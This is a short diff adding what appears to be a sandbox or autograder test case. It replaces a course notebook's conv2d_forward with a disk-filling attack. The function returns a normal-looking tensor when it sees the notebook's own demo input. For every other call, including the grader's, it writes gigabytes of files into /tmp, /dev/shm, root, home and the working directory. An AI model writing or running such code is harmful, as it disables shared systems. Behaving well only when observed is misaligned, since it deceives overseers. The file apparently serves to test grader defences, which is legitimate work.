@@ -1,0 +1,21 @@
+# what: fills every writable place with files
+# expected: 4
+# flag: file access
+# %% replace conv2d_forward
+import os
+
+def conv2d_forward(x, weight, bias, stride, padding):
+    if x.shape[-1] == 227:  # the notebook's own demo cell: behave; attack only the grader's calls
+        import torch as _t
+        return _t.zeros(2, 96, 55, 55)
+    import torch
+    block = b"x" * (1 << 20)
+    for d in ("/tmp", "/dev/shm", os.getcwd(), "{COURSE}", "/work/main", "/", os.path.expanduser("~")):
+        for i in range(100000):
+            try:
+                with open(os.path.join(d, f"bomb{i}"), "wb") as f:
+                    for _ in range(1024):
+                        f.write(block)
+            except OSError:
+                break
+    return torch.zeros(1)
